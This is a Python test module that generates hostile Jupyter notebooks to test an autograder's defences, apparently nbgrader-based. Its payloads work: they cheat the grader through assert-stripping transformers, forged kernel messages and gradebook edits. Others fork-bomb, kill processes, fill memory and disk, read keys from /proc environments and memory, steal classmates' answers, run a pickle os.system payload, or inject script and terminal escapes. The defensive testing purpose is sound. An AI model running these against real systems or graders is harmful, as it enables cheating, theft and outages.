"""The hostile notebooks: each attack as the few lines that make it, written out as real notebooks beside this file.

The lab `h_sums` gives 6 points for `add_all` and 4 for `largest`. In every notebook `largest` is honest and right,
and `add_all` is wrong: an attack succeeds when it earns more than 4, or costs somebody else something.

`python -m tests.hostile.attacks` writes the notebooks anew.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).parent
LARGEST = "def largest(numbers):\n    return max(numbers)\n"
WRONG = "def add_all(numbers):\n    return 0\n"
#: Where a listener waits during the test, and what must never come out of a sandbox.
PORT = 47913
SECRET = "sk-hostile-0123456789"
SLEEPER = "91357"


@dataclass(frozen=True)
class Attack:
    """One attack."""

    name: str
    what: str
    """What it does, in the words of the table."""
    code: str = WRONG
    """The answer cell `add_all`."""
    edit: Callable[[dict], None] | None = None
    """A change to the notebook's JSON."""
    raw: Callable[[bytes], bytes] | None = None
    """A change to the file's bytes."""
    earns: float = 4.0
    """What it may earn with us: what its honest cells are worth."""
    plain: bool = True
    """Is it harmless enough to be tried against plain nbgrader on the machine that runs the tests?"""


def cell(notebook: dict, name: str) -> dict:
    """Return the cell of that name."""
    return next(one for one in notebook["cells"] if one["id"] == name)


def meta(notebook: dict, name: str) -> dict:
    """Return the nbgrader metadata of a cell."""
    return cell(notebook, name)["metadata"]["nbgrader"]


def tag_checks(notebook: dict) -> None:
    """Tag every check so that nbclient skips it."""
    for one in notebook["cells"]:
        if one["metadata"].get("nbgrader", {}).get("grade"):
            one["metadata"]["tags"] = ["skip-execution"]


def copy_check(notebook: dict) -> None:
    """Put a second, empty check with the same name behind the first."""
    twin = copy.deepcopy(cell(notebook, "add_all_held_out"))
    twin.update(id="twin", source="pass")
    notebook["cells"].append(twin)


def nested(notebook: dict) -> None:
    """Hide a very deep list in the metadata of a cell."""
    deep: list = []
    for _ in range(900):
        deep = [deep]
    notebook["cells"][0]["metadata"]["deep"] = deep


def own_check_cell(notebook: dict) -> None:
    """Add a cell of one's own that gives itself a thousand points."""
    twin = copy.deepcopy(cell(notebook, "add_all_held_out"))
    twin.update(id="bonus", source="1000")
    twin["metadata"]["nbgrader"].update(grade_id="bonus", points=1000)
    notebook["cells"].append(twin)


#: A wrong answer that sends messages of the kernel's own, with its own key.
SAYS = WRONG + """
kernel = get_ipython().kernel
session = kernel.session
def say(kind, content):
    frames = [session.pack(session.msg_header(kind)), session.pack(kernel.get_parent("shell")["header"]), b"{}", content]
    kernel.iopub_socket.send_multipart([kind.encode(), b"<IDS|MSG>", session.sign(frames), *frames])
"""
FLOOD = """
import os, threading
if os.getuid() == 65534:  # only ever in the sandbox
    flooded = []
    def flood():
        while get_ipython().execution_count < 6:
            threading.Event().wait(0.02)
        for number in range(100):
            say("stream", b'{"name": "stdout", "text": "' + b"x" * 20_000_000 + b'"}')
            flooded.append(number)
    threading.Thread(target=flood, daemon=True).start()
"""
SCRIPT = "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"


def script_everywhere(notebook: dict) -> None:
    """Put script into Markdown, attachments, cell ids and metadata."""
    why = cell(notebook, "why")
    why["source"] = f"My answer {SCRIPT} <a href=\"javascript:document.title='pwned'\">read on</a> <iframe srcdoc=\"{SCRIPT}\"></iframe>"
    why["source"] += ("\n\n[a](javascript\\:document.title='pwned')\n\n1. [x]: javascript:document.title='pwned'\n\n[b][x]\n\n[c\\]d]: javascript:document.title='pwned'\n\n"
                      "[e][c\\]d] [notes](..%2F..%2F..%2Fsubmitted%2Fscript_everywhere%2Fh_sums%2Fnotes.html) [more](notes.html)")
    why["attachments"] = {"x.svg": {"image/svg+xml": f"<svg onload=\"document.title='pwned'\">{SCRIPT}</svg>"}}
    notebook["cells"].append({"cell_type": "markdown", "id": "x\"><script>document.title='pwned'</script>", "metadata": {}, "source": SCRIPT})
    notebook["metadata"]["title"] = SCRIPT


ATTACKS = [
    # Marks
    Attack("skip_execution_tags", "check cells tagged `skip-execution` (metadata only)", edit=tag_checks),
    Attack("input_transformer", "an input transformer that empties later check cells",
           WRONG + "get_ipython().input_transformers_cleanup.append(\n    lambda lines: [] if any('assert' in line for line in lines) else lines)\n"),
    Attack("ast_transformer", "an AST transformer that removes every assert", WRONG + """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
"""),
    Attack("always_equal", "an object whose `__eq__` is always true", """
class Anything:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
def add_all(numbers):
    return Anything()
"""),
    Attack("lying_int", "an int subclass that lies about equality, type and text", """
class Lie(int):
    def __eq__(self, other):
        return True
    def __int__(self):
        import inspect
        return 3
    __index__ = __int__
    __class__ = int
    __hash__ = int.__hash__
def add_all(numbers):
    return Lie(0)
"""),
    Attack("swallowed_errors", "a custom exception handler that swallows AssertionError",
           WRONG + "get_ipython().set_custom_exc((AssertionError,), lambda *words, **more: None)\n"),
    Attack("silent_traceback", "`showtraceback` and `run_cell` of the shell replaced", WRONG + """
shell = get_ipython()
shell.showtraceback = lambda *words, **more: None
shell.kernel.do_execute_real = shell.kernel.do_execute
"""),
    Attack("patched_libraries", "`unittest`, `math`, `pandas.testing`, `builtins` and the clock replaced", WRONG + """
import builtins, math, time, unittest
import pandas.testing
unittest.TestCase.assertEqual = lambda *words: None
pandas.testing.assert_frame_equal = lambda *words, **more: None
math.isclose = lambda *words, **more: True
builtins.abs = lambda x: 0
time.time = time.monotonic = lambda: 0.0
"""),
    Attack("reads_the_check", "hidden test text parsed at run time, the expected literal returned", """
import re
def add_all(numbers):
    text = In[-1]
    found = re.search(re.escape(f"add_all({numbers})") + r" == (-?\\d+)", text)
    return int(found[1]) if found else 0
"""),
    Attack("displayhook_number", "`sys.displayhook(6.0)` called inside the function: partial credit of one's own choice", """
import sys
def add_all(numbers):
    sys.displayhook(6.0)
    return 0
"""),
    Attack("displayhook_text", "text as partial credit", "import sys\ndef add_all(numbers):\n    sys.displayhook('all of them')\n    return 0\n"),
    Attack("displayhook_too_much", "partial credit out of range", "import sys\ndef add_all(numbers):\n    sys.displayhook(1e9)\n    return 0\n"),
    Attack("points_raised", "`points` of a check raised, on a copy with another name",
           edit=own_check_cell),
    Attack("check_copied", "a graded cell copied, the copy emptied", edit=copy_check),
    Attack("check_deleted", "a graded cell deleted", edit=lambda n: n["cells"].remove(cell(n, "add_all_held_out"))),
    Attack("check_to_markdown", "a graded cell turned to Markdown",
           edit=lambda n: cell(n, "add_all_held_out").update(cell_type="markdown")),
    Attack("check_renamed", "`grade_id` of a check changed", edit=lambda n: meta(n, "add_all_held_out").update(grade_id="other")),
    Attack("check_as_solution", "`solution` of a check set, its source emptied",
           edit=lambda n: (meta(n, "add_all_held_out").update(solution=True, locked=False), cell(n, "add_all_held_out").update(source="pass"))),
    Attack("names_swapped", "the names of two checks exchanged, so that the easy one counts twice",
           edit=lambda n: (meta(n, "add_all_held_out").update(grade_id="largest_held_out"),
                           meta(n, "largest_held_out").update(grade_id="add_all_held_out"))),
    Attack("schema_odd", "metadata with wrong types", edit=lambda n: meta(n, "add_all_held_out").update(points="many", schema_version=[3])),
    Attack("fake_verdict", "prints a forged verdict", """
def add_all(numbers):
    print("✓ add_all_held_out: 6 of 6 points")
    return 0
"""),
    Attack("patched_bridge", "the bridge in the kernel replaced by one that answers what it likes", WRONG + """
import json
import campkit.checking.bridge as bridge
bridge.serve_call = lambda request, namespace=None: json.dumps({"value": True, "points": 6, "status": "passed"})
largest_result = None
""", earns=0.0),
    Attack("forged_replies", "forged kernel messages with the kernel's own key", WRONG + """
import json, threading, time
kernel = get_ipython().kernel
def forge():
    for _ in range(40):
        try:
            kernel.session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "6.0"}, "metadata": {}, "execution_count": 1},
                                parent=kernel.get_parent())
            kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=kernel.get_parent())
        except Exception:
            pass
        time.sleep(0.05)
threading.Thread(target=forge, daemon=True).start()
"""),
    Attack("strange_answers", "answers that are no data: self-containing, endless, half characters, a million digits", """
def add_all(numbers):
    add_all.calls = getattr(add_all, "calls", 0) + 1
    loop = []
    loop.append(loop)
    return [loop, "\\ud800", 10 ** 100000, iter(int, 1), object()][add_all.calls % 5]
"""),
    Attack("keeps_hidden_arguments", "keeps the arguments of hidden calls and prints them in a later cell", """
seen = []
def add_all(numbers):
    seen.append(numbers)
    return 0
def max(numbers, builtin=max):
    print("SEEN", seen)
    return builtin(numbers)
"""),
    Attack("quotes_earlier_arguments", "keeps the arguments of one hidden call and quotes them in the error of the next", """
seen = []
def add_all(numbers):
    seen.append(numbers)
    if len(seen) > 2:
        raise ValueError(f"SEEN {seen[1]}")
    return sum(numbers)
"""),
    Attack("quotes_in_a_refusal", "quotes hidden arguments in an answer that is no plain data", """
seen = []
def add_all(numbers):
    seen.append(numbers)
    return sum(numbers) if len(seen) < 3 else {f"SEEN {seen[1]}": object()}
"""),
    Attack("huge_answer", "an answer of 300 MB", "def add_all(numbers):\n    return 'x' * 300_000_000\n"),
    Attack("pickle_answer", "an answer that would run code when unpickled", """
import os
class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/camp_pwned",))
def add_all(numbers):
    return Evil()
"""),
    # Availability
    Attack("os_exit", "`os._exit(0)` in the function", "import os\ndef add_all(numbers):\n    os._exit(0)\n"),
    Attack("os_exit_at_once", "`os._exit(0)` as the cell runs", "import os\nos._exit(0)\n"),
    Attack("segfault", "a crash of the interpreter", "import ctypes\ndef add_all(numbers):\n    ctypes.string_at(0)\n"),
    Attack("endless_loop", "an endless loop", "def add_all(numbers):\n    while True:\n        pass\n"),
    Attack("swallows_interrupts", "a loop that swallows interrupts", """
def add_all(numbers):
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""),
    Attack("stops_itself", "SIGSTOP to its own kernel", "import os, signal\ndef add_all(numbers):\n    os.kill(os.getpid(), signal.SIGSTOP)\n    return 0\n"),
    Attack("system_exit", "`exit()` and `sys.exit`", "import sys\ndef add_all(numbers):\n    sys.exit(0)\n"),
    Attack("kernel_shutdown", "asks its own kernel to shut down", """
def add_all(numbers):
    get_ipython().kernel.do_shutdown(False)
    get_ipython().ask_exit()
    return 0
"""),
    Attack("no_imports", "`builtins.__import__` removed, modules emptied",
           WRONG + "import builtins, sys\nbuiltins.__import__ = None\nbuiltins.open = None\n"),
    Attack("kill_parent", "`os.kill(os.getppid(), 9)`", "import os\ndef add_all(numbers):\n    os.kill(os.getppid(), 9)\n    return 0\n"),
    Attack("kill_everything", "`os.kill(-1, 9)`", """
import os
def add_all(numbers):
    if os.getuid() == 65534:  # only ever in the sandbox
        os.kill(-1, 9)
    return 0
""", plain=False),
    Attack("background_process", "a detached background process", WRONG + f"""
import subprocess
subprocess.Popen(["sh", "-c", "setsid sleep {SLEEPER} & setsid sleep {SLEEPER} &"], start_new_session=True)
"""),
    Attack("many_processes", "500 processes", WRONG + """
import subprocess
started = []
try:
    for number in range(500):
        started.append(subprocess.Popen(["sleep", "20"]))
except OSError:
    pass
print("STARTED", len(started))
for one in started:
    one.kill()
"""),
    Attack("fork_bomb", "a fork bomb", "import os\ndef add_all(numbers):\n    if os.getuid() == 65534:\n        while True:\n            os.fork()\n    return 0\n", plain=False),
    Attack("memory_hog", "3 GB of memory", "def add_all(numbers):\n    return len(bytes(3_000_000_000).replace(b'x', b'y')) * 0\n"),
    Attack("many_hogs", "memory in many processes at once", WRONG + """
import os
if os.getuid() == 65534:
    for _ in range(12):
        if os.fork() == 0:
            import time
            hog = bytearray(200_000_000)
            for at in range(0, len(hog), 4096):
                hog[at] = 1
            time.sleep(60)
""", plain=False),
    Attack("long_line", "20 MB in one line of output", WRONG + "print('x' * 20_000_000)\n"),
    Attack("many_lines", "200,000 lines of output", WRONG + "for number in range(200_000):\n    print(number)\n"),
    Attack("output_flood", "output without end", WRONG + "import sys\nfor number in range(100_000):\n    print('x' * 10_000)\n", plain=False),
    Attack("big_file", "a file of 10 GB", WRONG + """
try:
    with open("big", "wb") as out:
        out.truncate(10_000_000_000)
    print("MADE")
except OSError as error:
    print("REFUSED", error)
"""),
    Attack("many_files", "20,000 files", WRONG + """
try:
    for number in range(20_000):
        open(f"file{number}", "w").close()
    print("MADE")
except OSError as error:
    print("REFUSED", error)
"""),
    Attack("socket_folder", "files in the folder of the kernel's own sockets", WRONG + """
import os
for place in ("/run/k", "."):
    try:
        for number in range(3000):
            with open(f"{place}/file{number}", "w") as out:
                out.write("x" * 10_000)
    except OSError as error:
        print(error)
import time
time.sleep(1)
""", plain=False),
    Attack("socket_folder_deep", "files in a folder of its own there, and files that have no name any more", WRONG + """
import os, time
try:
    os.mkdir("/run/k/deep")
    kept = []
    for number in range(3):
        kept.append(open("/run/k/deep/file", "w"))
        os.unlink("/run/k/deep/file")
        kept[-1].write("x" * 10_000_000)
    print("FILLED THE DISK")
except OSError as error:
    print("REFUSED", error)
time.sleep(1)
""", plain=False),
    Attack("socket_folder_nameless", "files there that have lost their name while they are open", WRONG + """
import os, time
kept = []
for name in ("/run/k/file", "/run/k/connection.json"):
    try:
        kept.append(open(name, "r+" if "json" in name else "w"))
        os.unlink(name)
        kept[-1].write("x" * 10_000_000)
        print("FILLED THE DISK", name)
    except OSError as error:
        print("REFUSED", error)
time.sleep(1)
""", plain=False),
    Attack("shared_memory", "1.2 GB of memory that is shared, so that it is nobody's own", WRONG + """
import mmap, time
hog = mmap.mmap(-1, 1_200_000_000)
for at in range(0, len(hog), 4096):
    hog[at] = 1
time.sleep(2)
print("HELD")
""", plain=False),
    Attack("uncounted_memory", "memory without an address: memfd, System V, a file system of its own in a user space of its own; keys that outlive the process", WRONG + """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
add_key = {"x86_64": 248, "aarch64": 217}.get(platform.machine(), 248)
print("MEMFD", hasattr(os, "memfd_create") and libc.memfd_create(b"x", 0) >= 0)
print("SYSTEM V", libc.shmget(0, ctypes.c_size_t(900_000_000), 0o1600) >= 0)
print("KEYS", libc.syscall(add_key, b"user", b"red", b"hello", 5, -3) >= 0)
print("SPACES", libc.unshare(0x10020000) == 0)
""", plain=False),
    Attack("never_idle", "a kernel that answers, never says that it is idle, and goes on talking", WRONG + """
import threading, time
kernel = get_ipython().kernel
real = kernel._publish_status
kernel._publish_status = lambda status, *more, **words: None if status == "idle" else real(status, *more, **words)
def chatter():
    while True:
        kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "."})
        time.sleep(1)
threading.Thread(target=chatter, daemon=True).start()
""", earns=0.0, plain=False),
    Attack("costly_literal", "an answer that takes a thousand times its size to read", WRONG + """
import campkit.checking.bridge as bridge
real = bridge.serve_call
class Costly(str):
    def __repr__(self):
        return "[" + "1," * 15_000_000 + "]"
bridge.serve_call = lambda request, namespace=None: Costly("x") if '"name":"add_all"' in request else real(request, namespace)
""", plain=False),
    Attack("html_bomb", "HTML of 200 kB that becomes gigabytes when it is read", WRONG + """
from IPython.display import HTML, display
display(HTML("<p>" + "".join(f"<b title={n}>" for n in range(10_000)) + "</p>" + "<p>x</p>" * 5_000))
display(HTML("<div>" * 100_000))
""", plain=False),
    Attack("long_text", "Markdown that takes hours to turn into a page", edit=lambda n: cell(n, "why").update(source="a" + " " * 190_000 + "b"), plain=False),
    Attack("costly_message", "an output message of 30 MB that becomes gigabytes when it is read", WRONG + """
kernel = get_ipython().kernel
session = kernel.session
parent = kernel.get_parent("shell")["header"]
content = b'{"metadata":{},"data":{"x":[' + b"[]," * 10_000_000 + b"[]]}}"
frames = [session.pack(session.msg_header("display_data")), session.pack(parent), b"{}", content]
kernel.iopub_socket.send_multipart([b"display_data", b"<IDS|MSG>", session.sign(frames), *frames])
print("SENT")
""", plain=False),
    Attack("many_outputs", "20,000 outputs of one character, and as many errors", WRONG + """
import sys
kernel = get_ipython().kernel
for number in range(20_000):
    (sys.stdout, sys.stderr)[number % 2].write("x")
    (sys.stdout, sys.stderr)[number % 2].flush()
    kernel.session.send(kernel.iopub_socket, "error", {"ename": "E", "evalue": "x" * 1000, "traceback": []}, parent=kernel.get_parent())
""", plain=False),
    Attack("odd_traceback", "an error message of the kernel whose traceback is a number", SAYS + """
say("error", b'{"traceback": 5, "ename": {"a": [1]}, "evalue": null}')
"""),
    Attack("half_characters", "half characters in output, which no file can hold", SAYS + """
say("stream", b'{"name": "stdout", "text": "half \\\\ud800 half"}')
say("error", b'{"traceback": ["\\\\udfff"], "ename": "E\\\\ud800", "evalue": "x\\\\ud800"}')
say("display_data", b'{"data": {"text/plain": "x\\\\ud800", "text/html": "<b>\\\\ud800</b>", "image/png\\\\ud800": "x"}, "metadata": {}}')
"""),
    Attack("odd_counts", "execution counts that are no counts: True, negative, 4,000 digits", SAYS + """
say("execute_result", b'{"data": {"text/plain": "x"}, "metadata": {}, "execution_count": true}')
say("execute_result", b'{"data": {"text/plain": "x"}, "metadata": {}, "execution_count": -7}')
say("execute_result", b'{"data": {"text/plain": "x"}, "metadata": {}, "execution_count": 1' + b"0" * 4000 + b"}")
get_ipython().execution_count = -5
"""),
    Attack("flood_later", "20 MB messages without end that begin when all cells have run, while the grader computes", SAYS + FLOOD, plain=False),
    Attack("long_names", "an answer whose names have 15 million characters, to be kept in the trace", "def add_all(numbers):\n    return {'x' * 15_000_000: 1}\n"),
    # Secrets and other people's work
    Attack("writes_gradebook", "writes `gradebook.db`", WRONG + """
import glob, os, sqlite3
for up in ("..", "../..", "../../..", "../../../.."):
    for path in glob.glob(f"{up}/gradebook.db") + glob.glob(f"{up}/*/gradebook.db"):
        base = sqlite3.connect(path)
        base.execute("update grade set manual_score = 6.0, needs_manual_grade = 0")
        base.commit()
        print("WROTE", path)
"""),
    Attack("reads_source", "reads `source/` and runs the worked answer it finds", WRONG + """
import glob, json
for up in ("..", "../..", "../../..", "../../../.."):
    for path in glob.glob(f"{up}/source/*/*.ipynb") + glob.glob(f"{up}/*/source/*/*.ipynb"):
        for one in json.load(open(path))["cells"]:
            if one["metadata"].get("nbgrader", {}).get("grade_id") == "add_all":
                exec("".join(one["source"]))
                print("STOLE", path)
"""),
    Attack("reads_classmates", "reads classmates' submissions and runs their answer", WRONG + """
import glob, json
for up in ("..", "../..", "../../..", "../../../.."):
    for path in glob.glob(f"{up}/submitted/honest/*/*.ipynb") + glob.glob(f"{up}/*/submitted/honest/*/*.ipynb"):
        for one in json.load(open(path))["cells"]:
            if one["metadata"].get("nbgrader", {}).get("grade_id") == "add_all":
                exec("".join(one["source"]))
                print("STOLE", path)
"""),
    Attack("network", "a connection to a server on this machine", WRONG + f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {PORT}), timeout=2).sendall(b"stolen")
    print("REACHED")
except OSError as error:
    print("BLOCKED", error)
"""),
    Attack("api_key", "reads keys from the environment, its own and its parents'", WRONG + """
import glob, os
texts = [str(dict(os.environ))]
for path in glob.glob("/proc/*/environ"):
    try:
        texts.append(open(path).read())
    except OSError:
        pass
print([text[text.find("sk-hostile"):][:21] for text in texts if "sk-hostile" in text])
"""),
    Attack("looks_around", "looks for the grader: processes, other submissions, /root, the checks", WRONG + """
import glob, os
seen = []
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        seen.append(open(path).read())
    except OSError:
        pass
print("GRADER" if any("pytest" in text or "cohort_tools" in text or "nbgrader" in text for text in seen) else "ALONE")
found = [path for up in ("/work", "/camp", "/in", "/camp/..", "/proc/1/root", "/proc/self/root", "/root", "/home")
         for depth in ("", "*/", "*/*/", "*/*/*/") for path in glob.glob(f"{up}/{depth}h_sums/checks.py") + glob.glob(f"{up}/{depth}secret_seed")]
print("CHECKS" if found else "NO CHECKS")
""", plain=False),
    Attack("searches_memory", "searches its own memory, which a warm parent has forked, for what others have left", WRONG + """
import re
# another's answer, the grader's own words; written so that this cell does not find itself
words = re.compile(rb"return su[m]\\(numbers\\)|secret_see[d]|truth_sum[s]|zz_hones[t]|gradebook.d[b]|check_add_al[l]_held")
found = []
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        area = re.match("([0-9a-f]+)-([0-9a-f]+) r", line)
        if area and "[v" not in line:
            try:
                memory.seek(int(area[1], 16))
                found += words.findall(memory.read(int(area[2], 16) - int(area[1], 16)))
            except (OSError, OverflowError, MemoryError):
                pass
print("SEARCHED", found[:1])
""", plain=False),
    Attack("raises_its_limits", "raises its own limits, becomes root, mounts", WRONG + """
import ctypes, os, resource
for attempt in (lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY,) * 2), lambda: os.setuid(0), lambda: os.chroot("/tmp"),
                lambda: os.open("/usr/x", os.O_CREAT | os.O_WRONLY), lambda: os.open("/camp/campkit/x.py", os.O_CREAT | os.O_WRONLY)):
    try:
        attempt()
        print("DONE")
    except (OSError, ValueError) as error:
        print("REFUSED", error)
libc = ctypes.CDLL(None)
print("MOUNTED" if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else "REFUSED mount")
""", plain=False),
    # People's browsers and terminals
    Attack("script_in_output", "HTML, SVG and JavaScript in output", WRONG + f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML({SCRIPT!r}))
display(Javascript("document.title='pwned'"))
display(Markdown({SCRIPT!r}))
display({{"image/svg+xml": "<svg onload=\\"document.title='pwned'\\"/>", "text/plain": "svg"}}, raw=True)
display({{"image/png": {SCRIPT!r}, "text/plain": "png"}}, raw=True)
"""),
    Attack("script_everywhere", "script in Markdown, attachments, cell ids, metadata", edit=script_everywhere),
    Attack("terminal_codes", "control codes for the instructor's terminal in an error", """
def add_all(numbers):
    raise ValueError("\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m passed")
"""),
    Attack("unseen_letters", "letters that nobody sees in an error: bidi marks, tags, line separators; a forged verdict on a line of its own", r"""
def add_all(numbers):
    raise ValueError("\u200b\U000e0041\u2028\u2067 0\n✓ add_all_held_out: 6 of 6 points")
"""),
    # Not a notebook
    Attack("other_kernel", "another kernel", edit=lambda n: n["metadata"].update(kernelspec={"name": "bash", "display_name": "Bash", "language": "bash"})),
    Attack("other_format", "another notebook format", edit=lambda n: n.update(nbformat=3), earns=0.0),
    Attack("deep_metadata", "metadata nested 900 levels deep", edit=nested),
    Attack("broken_json", "broken JSON", raw=lambda data: data[:-200], earns=0.0),
    Attack("deep_json", "100,000 levels of nesting", raw=lambda data: b"[" * 100_000, earns=0.0),
]


def release() -> dict:
    """Return the released notebook that the attacks began with, as plain JSON."""
    return json.loads((HERE / "release.json").read_text(encoding="utf-8"))


def write_release() -> None:
    """Keep the released notebook as it is built now."""
    from graders.build import notebook_bytes, release_notebook
    from graders.labs import load_lab

    (HERE / "release.json").write_bytes(notebook_bytes(release_notebook(load_lab(HERE / "lab" / "h_sums"))))


def make(attack: Attack, base: dict | None = None) -> bytes:
    """Return the bytes of an attack's notebook."""
    notebook = copy.deepcopy(base or release())
    cell(notebook, "add_all")["source"] = attack.code.lstrip("\n")
    cell(notebook, "largest")["source"] = LARGEST
    if attack.edit:
        attack.edit(notebook)
    data = (json.dumps(notebook, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode("utf-8", "surrogatepass")
    return attack.raw(data) if attack.raw else data


def write() -> None:
    """Write every notebook beside this file."""
    write_release()
    base = release()
    for attack in ATTACKS:
        (HERE / f"{attack.name}.ipynb").write_bytes(make(attack, base))


if __name__ == "__main__":
    write()
